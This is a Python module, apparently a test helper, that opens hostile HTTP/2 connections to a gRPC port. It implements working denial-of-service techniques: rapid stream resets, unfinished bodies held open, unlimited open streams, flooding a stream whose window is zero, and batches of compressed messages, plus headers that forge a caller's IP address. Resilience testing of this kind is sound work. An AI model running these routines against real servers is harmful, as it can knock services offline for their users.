"""Hostile HTTP/2 connections to a gRPC port."""

from __future__ import annotations

import socket
import struct
from collections import Counter
from collections.abc import Mapping, Sequence
from contextlib import suppress
from types import MappingProxyType
from typing import Any, Final, Self

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack

SECONDS: Final = 30.0
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RESET, _SETTINGS = 1, 3, 4
_END_HEADERS: Final = 4
_CANCEL: Final = struct.pack(">I", 8)


FORGED_ADDRESS: Final = {"x-forwarded-for": "203.0.113.7", "forwarded": "for=203.0.113.7", "x-real-ip": "203.0.113.7"}
"""The headers of a caller that wants to be taken for another."""


def headers_of(path: str) -> list[tuple[str, str]]:
    """Return the headers of a call."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x"}
    return list((fields | {"content-type": "application/grpc", "te": "trailers"}).items())


class UnfinishedBodies:
    """An HTTP/2 connection that sends the beginnings of bodies.

    Args:
        connection: A connection to the gRPC port.
        path: The path of a method.

    Attributes:
        refused: The number of bodies that the server did not wait for.
    """

    def __init__(self, connection: socket.socket, path: str) -> None:
        self._path = path
        self._socket = connection
        self._http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self._http.initiate_connection()
        self._unsent: dict[int, int] = {}
        self.refused = 0

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._socket.close()

    def begin(self, size: int) -> None:
        """Begin a call whose message is longer than the ``size`` bytes that will be sent."""
        stream = self._http.get_next_available_stream_id()
        self._http.send_headers(stream, headers_of(self._path))
        self._http.send_data(stream, b"\0" + (size + 1).to_bytes(4, "big"))
        self._unsent[stream] = size

    def push(self) -> int:
        """Send what flow control admits; return how many bytes of open bodies are still unsent."""
        for stream in list(self._unsent):
            while self._unsent[stream] and (room := self._http.local_flow_control_window(stream)):
                size = min(self._unsent[stream], room, self._http.max_outbound_frame_size)
                self._http.send_data(stream, bytes(size))
                self._unsent[stream] -= size
        self._socket.sendall(self._http.data_to_send())
        self._socket.settimeout(0.01)
        with suppress(TimeoutError):
            for event in self._http.receive_data(self._socket.recv(65536)):
                if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                    self.refused += self._unsent.pop(event.stream_id, None) is not None
        self._socket.settimeout(SECONDS)
        return sum(self._unsent.values())


def call_compressed(
    connection: socket.socket, path: str, contents: Sequence[bytes], headers: Mapping[str, str] = MappingProxyType({})
) -> Counter[str]:
    """Call with compressed messages, all at once; return the ``grpc-status`` of the answers.

    The additional headers are sent in the form that is never indexed.
    """
    bodies = [b"\1" + len(content).to_bytes(4, "big") + content for content in contents]
    more = [hpack.NeverIndexedHeaderTuple(name, value) for name, value in headers.items()]
    return call_with_bodies(connection, path, bodies, [("grpc-encoding", "gzip"), *more])


def call_with_bodies(
    connection: socket.socket, path: str, bodies: Sequence[bytes], more: Sequence[Any] = ()
) -> Counter[str]:
    """Call with bodies, all at once; return the ``grpc-status`` of the answers, and ``reset`` for calls without one."""
    http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    http.initiate_connection()
    open_calls: dict[int, bytes] = {}
    for body in bodies:
        stream = http.get_next_available_stream_id()
        http.send_headers(stream, [*headers_of(path), *more])
        open_calls[stream] = body
    statuses: Counter[str] = Counter()
    while open_calls:
        for stream, left in open_calls.items():
            sent = 0
            while sent < len(left) and (room := http.local_flow_control_window(stream)):
                size = min(len(left) - sent, room, http.max_outbound_frame_size)
                http.send_data(stream, left[sent : sent + size], end_stream=sent + size == len(left))
                sent += size
            open_calls[stream] = left[sent:]
        connection.sendall(http.data_to_send())
        for event in http.receive_data(connection.recv(65536)):
            if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                found = [value.decode() for name, value in event.headers if name == b"grpc-status"]
                statuses.update(found)
                if found:
                    open_calls.pop(event.stream_id, None)
            elif isinstance(event, h2.events.StreamReset) and open_calls.pop(event.stream_id, None) is not None:
                statuses["reset"] += 1
    return statuses


def push_unread(connection: socket.socket, path: str, message: bytes, most: int) -> int:
    """Send one message again and again in a stream whose answers are never taken.

    Ends when the server has admitted no more for a second, or ``most`` bytes were sent; returns how many were.
    """
    http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    http.initiate_connection()
    http.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    stream = http.get_next_available_stream_id()
    http.send_headers(stream, headers_of(path))
    content = b"\0" + len(message).to_bytes(4, "big") + message
    connection.settimeout(1.0)
    sent = 0
    while sent < most:
        while (room := http.local_flow_control_window(stream)) and sent < most:
            begin = sent % len(content)
            piece = content[begin : begin + min(room, http.max_outbound_frame_size)]
            http.send_data(stream, piece)
            sent += len(piece)
        connection.sendall(http.data_to_send())
        try:
            http.receive_data(connection.recv(65536))
        except TimeoutError:
            break
    return sent


def reset_rapidly(connection: socket.socket, path: str, count: int) -> int:
    """Begin calls and cancel each at once, until the server ends the connection; return how many were sent."""
    encoder = hpack.Encoder()
    connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    connection.settimeout(SECONDS)
    for number in range(count):
        headers = _frame(_HEADERS, _END_HEADERS, 2 * number + 1, encoder.encode(headers_of(path)))
        try:
            connection.sendall(headers + _frame(_RESET, 0, 2 * number + 1, _CANCEL))
        except OSError:
            return number
    return count


def begin_calls(connection: socket.socket, path: str, count: int) -> None:
    """Begin calls and end none, however many the server admits, until it ends the connection."""
    encoder = hpack.Encoder()
    frames = [_PREFACE, _frame(_SETTINGS, 0, 0, b"")]
    frames += (
        _frame(_HEADERS, _END_HEADERS, 2 * number + 1, encoder.encode(headers_of(path))) for number in range(count)
    )
    with suppress(OSError):
        connection.sendall(b"".join(frames))


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content
